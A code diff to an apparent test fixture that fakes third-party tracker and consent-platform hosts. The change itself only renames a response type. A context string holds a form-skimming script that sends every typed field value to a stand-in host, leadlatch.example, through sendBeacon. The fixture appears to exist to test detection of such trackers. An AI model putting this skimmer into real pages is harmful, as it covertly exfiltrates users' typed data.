@@ -1,4 +1,4 @@
-import type { Answer } from '../town/site.ts'
+import type { TownAnswer } from '../town/site.ts'
 import { DAY, RANDOM_ID, script } from './parts.ts'
 import {
   COOKIEBOT,
@@ -13,9 +13,9 @@ import {
 // The hosts of consent platforms, recorders that are known, and three that are in no table.
 
 const EVERYWHERE = { 'access-control-allow-origin': '*' }
-const TAKEN: Answer = { status: 204, headers: EVERYWHERE }
-const JSON_OF_NOTHING: Answer = { type: 'application/json', body: '{}', headers: EVERYWHERE }
-const PIXEL: Answer = {
+const TAKEN: TownAnswer = { status: 204, headers: EVERYWHERE }
+const JSON_OF_NOTHING: TownAnswer = { type: 'application/json', body: '{}', headers: EVERYWHERE }
+const PIXEL: TownAnswer = {
   type: 'image/gif',
   body: Buffer.from('R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==', 'base64'),
 }
@@ -54,7 +54,7 @@ const READS_ALONG = `addEventListener('input', ({ target }) => {
     navigator.sendBeacon('https://leadlatch.example/k?field=' + target.name + '&value=' + encodeURIComponent(target.value), '')
 })`
 
-const PARTIES: Readonly<Record<string, Readonly<Record<string, Answer>>>> = {
+const PARTIES: Readonly<Record<string, Readonly<Record<string, TownAnswer>>>> = {
   'consent.cookiebot.com': { '/uc.js': script(COOKIEBOT), '/logconsent.ashx': PIXEL },
   'consentcdn.cookiebot.com': {
     '/consentconfig/b7a52c1e-1111-4c55-9b2e-5f3d0c9a7e21/settings.json': JSON_OF_NOTHING,
@@ -96,7 +96,7 @@ const PARTIES: Readonly<Record<string, Readonly<Record<string, Answer>>>> = {
   'tags.geraetemerk.example': { '/d.js': script(DEVICE), '/seen': TAKEN },
 }
 
-export function partyAnswer(host: string, path: string): Answer | null {
+export function partyAnswer(host: string, path: string): TownAnswer | null {
   const party = PARTIES[host]
   return party === undefined ? null : (party[path] ?? { status: 404 })
 }
